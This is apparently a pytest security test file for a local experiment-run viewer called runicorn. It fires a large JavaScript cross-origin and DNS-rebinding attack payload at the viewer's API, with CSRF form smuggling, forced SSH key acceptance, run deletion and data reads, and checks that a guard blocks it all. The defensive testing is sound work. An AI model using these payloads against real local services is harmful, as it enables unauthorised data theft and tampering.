"""Other pages in the same browser: another port, a rebound name, a sandboxed frame, a file. None of them gets in."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from tests.support.browser import find_chromium, run_chromium
from tests.support.watched import Watched, run_watched

import runicorn as rn

RUN_NAME = "private-run-name"

# Tries everything a page can do without being asked. Answers what it could read.
ATTACK = """
async ({base, trap, run}) => {
    const got = [], tries = [];
    const limit = ms => new Promise(done => setTimeout(done, ms));
    const note = async (name, attempt) => {
        tries.push(name);
        try {
            const text = await Promise.race([attempt(), limit(1500)]);
            // A refusal that can be read tells nothing but that it is one.
            if (text && !/_NOT_ALLOWED/.test(text)) got.push(name + ': ' + String(text).slice(0, 200));
        } catch (error) { /* the browser or the viewer refused */ }
    };
    const login = {host: '127.0.0.1', port: trap, username: 'me', password: 'x'};
    const key = {host: 'evil', port: 22, key_type: 'ssh-ed25519',
        public_key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIICeG2eyUL2GSNoLOGmYhaTIW3UX1WcJmPaqdXDtrNKK',
        fingerprint_sha256: 'SHA256:zZ/t/Fy2ilKulm7z8TnLnsfaqtkFfnMgiE4MBBcAnIE'};
    const writes = [
        ['POST', '/api/remote/known-hosts/accept', key],
        ['POST', '/api/remote/connect', login],
        ['POST', '/api/remote/viewer/start', {...login, remote_root: '/'}],
        ['POST', '/api/remote/connections/saved', [{host: 'evil', username: 'me'}]],
        ['DELETE', '/api/runs/' + run, null],
        ['PATCH', '/api/runs/' + run, {name: 'owned'}],
    ];
    const reads = ['/api/runs', '/api/runs/' + run, '/api/live', '/api/health', '/api/remote/known-hosts/list',
        '/api/remote/connections/saved', '/api/runs/' + run + '/console', '/openapi.json', '/'];

    for (const [method, path, body] of writes) {
        for (const mode of ['cors', 'no-cors', 'same-origin']) {
            for (const type of ['application/json', 'text/plain']) {
                await note(`fetch ${mode} ${method} ${path} as ${type}`, async () => {
                    const options = {method, mode, credentials: 'include', headers: {'Content-Type': type}};
                    if (body) options.body = JSON.stringify(body);
                    const answer = await fetch(base + path, options);
                    return answer.ok ? `${answer.status} ${await answer.text()}` : '';
                });
            }
        }
        await note(`beacon ${path}`, async () => {
            navigator.sendBeacon(base + path, JSON.stringify(body));
            navigator.sendBeacon(base + path, new Blob([JSON.stringify(body)], {type: 'text/plain'}));
        });
        for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
            await note(`form ${enctype} ${path}`, async () => {
                const frame = document.createElement('iframe');
                frame.name = 'f' + Math.random();
                document.body.append(frame);
                const form = document.createElement('form');
                Object.assign(form, {method: 'POST', action: base + path, enctype, target: frame.name});
                const field = document.createElement('input');
                // As text/plain a form's body is name=value: with this name and value it is valid JSON.
                field.name = JSON.stringify(body).slice(0, -1) + ',"x":"';
                field.value = '"}';
                form.append(field);
                document.body.append(form);
                form.submit();
                await limit(50);
            });
        }
    }
    for (const path of reads) {
        for (const mode of ['cors', 'no-cors', 'same-origin']) {
            await note(`fetch ${mode} GET ${path}`, async () => {
                const answer = await fetch(base + path, {mode, credentials: 'include'});
                if (!answer.ok) return '';
                const chunk = await answer.body.getReader().read();
                return new TextDecoder().decode(chunk.value);
            });
        }
    }
    await Promise.all(['img', 'script', 'iframe', 'embed', 'object', 'link', 'video', 'audio', 'track'].flatMap(tag =>
        ['/api/runs', '/api/runs/' + run, '/'].map(path =>
            note(`<${tag}> ${path}`, () => new Promise(done => {
                const element = document.createElement(tag);
                element.onload = () => {
                    let text = '';
                    try { text = element.contentDocument && element.contentDocument.body.innerText; } catch (e) {}
                    done(tag === 'img' || tag === 'script' ? 'loaded' : text);
                };
                element.onerror = () => done('');
                if (tag === 'link') Object.assign(element, {rel: path === '/' ? 'prefetch' : 'stylesheet'});
                element[{link: 'href', object: 'data'}[tag] || 'src'] = base + path;
                document.body.append(element);
                setTimeout(() => done(''), 300);
            })))));
    await note('EventSource', () => new Promise(done => {
        const source = new EventSource(base + '/api/live', {withCredentials: true});
        source.onopen = () => { source.close(); done('opened'); };
        source.onmessage = event => { source.close(); done(event.data); };
        source.onerror = () => { source.close(); done(''); };
    }));
    await note('WebSocket', () => new Promise(done => {
        const socket = new WebSocket(base.replace('http', 'ws') + '/api/live');
        socket.onopen = () => { socket.close(); done('opened'); };
        socket.onerror = () => done('');
    }));
    await note('XMLHttpRequest', () => new Promise(done => {
        const request = new XMLHttpRequest();
        request.open('GET', base + '/api/runs');
        request.onload = () => done(request.status === 200 ? request.responseText : '');
        request.onerror = () => done('');
        request.send();
    }));
    await note('worker import', async () => {
        const code = `importScripts(${JSON.stringify(base + '/api/runs')}); postMessage('loaded')`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        return await new Promise(done => { worker.onmessage = e => done(e.data); worker.onerror = () => done(''); });
    });
    await Promise.all(['/api/runs', '/api/live', '/api/remote/status', '/openapi.json'].map(path =>
        note(`window.open ${path}`, async () => {
            const opened = window.open(base + path);
            await limit(400);
            let text = '';
            try { text = opened && opened.document.body && opened.document.body.innerText; } catch (e) {}
            if (opened) opened.close();
            return text;
        })));
    return {got, tries};
}
"""


@dataclass
class Trap:
    """A listening port that an SSH connection would show up at."""

    port: int
    visits: list[Any] = field(default_factory=list)


@contextlib.contextmanager
def run_trap() -> Iterator[Trap]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        trap = Trap(listener.getsockname()[1])

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    client, address = listener.accept()
                    trap.visits.append(address)
                    client.close()

        thread = threading.Thread(target=accept, name="trap", daemon=True)
        thread.start()
        yield trap
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(5)


@contextlib.contextmanager
def run_site() -> Iterator[int]:
    """Serve an empty page, and one that is all in a sandboxed frame, on a port of its own."""

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            frame = "<iframe sandbox='allow-scripts allow-forms allow-popups' srcdoc='<body>'></iframe>"
            content = f"<!doctype html><body>{frame if self.path == '/sandbox' else ''}".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    thread = threading.Thread(target=server.serve_forever, name="site", daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


@dataclass
class Scene:
    """A viewer with one run, a trap, and another site. attack: what `ATTACK` needs to know."""

    viewer: Watched
    trap: Trap
    site_port: int
    run_id: str

    def attack(self, page: Any, base: str) -> dict[str, list[str]]:
        result: dict[str, list[str]] = page.evaluate(ATTACK, {"base": base, "trap": self.trap.port, "run": self.run_id})
        return result

    def damage(self) -> list[str]:
        """Return what has changed, or been reached."""
        home, root = self.viewer.settings.home, self.viewer.settings.root
        # The browser itself asks for the icon of a refusal that it shows in a window.
        found = [each for each in self.viewer.reached if each != "GET /favicon.ico"]
        found += [f"file {path}" for path in home.rglob("*")] if home.exists() else []
        found += [f"the trap was visited by {visit}" for visit in self.trap.visits]
        run = next(iter(root.rglob(self.run_id)), None)
        found += [] if run and not (run / "notes.json").exists() else ["the run was changed"]
        return found


@contextlib.contextmanager
def make_scene(folder: Path, **options: Any) -> Iterator[Scene]:
    with rn.init("secret", name=RUN_NAME, root=folder / "root") as run:
        run.log({"loss": 1.0})
    with run_watched(folder, **options) as viewer, run_trap() as trap, run_site() as site_port:
        yield Scene(viewer, trap, site_port, run.id)


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    with make_scene(tmp_path) as made:
        yield made


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """A browser whose resolver has been rebound: evil.test and the allowed name lead to this machine."""
    if not find_chromium():
        pytest.skip("needs chromium: apt-get install chromium")
    names = ", ".join(f"MAP {name} 127.0.0.1" for name in ("evil.test", "gpu.lab"))
    # Newer browsers keep public pages from local addresses by themselves; what is tested is the viewer.
    allowed = "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"
    with run_chromium(f"--host-resolver-rules={names}", allowed) as running:
        yield running


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    made = context.new_page()
    made.set_default_timeout(60_000)
    yield made
    context.close()


def assert_nothing_got_in(scene: Scene, result: dict[str, list[str]]) -> None:
    assert len(result["tries"]) >= 40
    assert result["got"] == []
    assert scene.damage() == []
    assert len(scene.viewer.arrived) >= 40  # what was refused had come: it was not the browser that held it back


def test_a_page_on_another_port_gets_nowhere(scene: Scene, page: Page) -> None:
    page.goto(f"http://127.0.0.1:{scene.site_port}/")
    assert_nothing_got_in(scene, scene.attack(page, f"http://127.0.0.1:{scene.viewer.port}"))


def test_a_page_of_another_name_gets_nowhere(scene: Scene, page: Page) -> None:
    page.goto(f"http://evil.test:{scene.site_port}/")
    assert_nothing_got_in(scene, scene.attack(page, f"http://localhost:{scene.viewer.port}"))


def test_a_rebound_name_gets_nowhere(scene: Scene, page: Page) -> None:
    """The name led to the attacker's server when the page was loaded; now it leads to the viewer's port."""
    base = f"http://evil.test:{scene.viewer.port}"
    page.route("**/attack", lambda route: route.fulfill(body="<!doctype html><body>", content_type="text/html"))
    page.goto(f"{base}/attack")
    assert_nothing_got_in(scene, scene.attack(page, base))


def test_a_sandboxed_frame_gets_nowhere(scene: Scene, page: Page) -> None:
    page.goto(f"http://127.0.0.1:{scene.site_port}/sandbox")
    frame = page.frames[1]
    assert frame.evaluate("origin") == "null"
    assert_nothing_got_in(scene, scene.attack(frame, f"http://127.0.0.1:{scene.viewer.port}"))


def test_a_file_gets_nowhere(scene: Scene, page: Page, tmp_path: Path) -> None:
    (tmp_path / "attack.html").write_text("<!doctype html><body>")
    page.goto((tmp_path / "attack.html").as_uri())
    assert_nothing_got_in(scene, scene.attack(page, f"http://127.0.0.1:{scene.viewer.port}"))


def test_another_page_may_open_the_viewer_and_then_holds_nothing_of_it(scene: Scene, page: Page) -> None:
    page.goto(f"http://127.0.0.1:{scene.site_port}/")
    with page.context.expect_page() as opened:
        page.evaluate("url => { window.viewer = window.open(url) }", f"http://127.0.0.1:{scene.viewer.port}/")
    opened.value.get_by_text(RUN_NAME).first.wait_for()
    assert page.evaluate("window.viewer.closed") is True  # cut off by Cross-Origin-Opener-Policy
    assert opened.value.evaluate("window.opener") is None


def test_without_the_guard_the_same_attempts_succeed(tmp_path: Path, page: Page) -> None:
    """They are real attacks: a rebound name reads the runs, connects, accepts a key and deletes."""
    with make_scene(tmp_path, guarded=False) as scene:
        base = f"http://evil.test:{scene.viewer.port}"
        page.route("**/attack", lambda route: route.fulfill(body="<!doctype html><body>", content_type="text/html"))
        page.goto(f"{base}/attack")
        result = scene.attack(page, base)
        assert any(RUN_NAME in each for each in result["got"])
        assert scene.trap.visits
        assert (scene.viewer.settings.home / "known_hosts").exists()
        assert "the run was changed" in scene.damage()
        assert f"DELETE /api/runs/{scene.run_id}" in scene.viewer.reached


def test_every_legitimate_name_works(tmp_path: Path, page: Page) -> None:
    with make_scene(tmp_path, allowed_hosts=("gpu.lab",)) as scene:
        for name in ("localhost", "127.0.0.1", "LOCALHOST", "gpu.lab"):
            page.goto(f"http://{name}:{scene.viewer.port}/")
            page.get_by_text(RUN_NAME).first.wait_for()
            changed = page.evaluate(
                "async run => (await fetch('/api/runs/' + run, {method: 'PATCH', body: JSON.stringify({note: 'mine'}),"
                " headers: {'Content-Type': 'application/json'}})).status",
                scene.run_id,
            )
            assert changed == 200, name


@pytest.mark.skipif(not socket.has_ipv6, reason="needs IPv6")
def test_the_ipv6_name_works(tmp_path: Path, page: Page) -> None:
    with make_scene(tmp_path, host="::1") as scene:
        page.goto(f"http://[::1]:{scene.viewer.port}/")
        page.get_by_text(RUN_NAME).first.wait_for()
        status = page.evaluate("async () => (await fetch('/api/runs')).status")
        assert json.dumps(status) == "200"
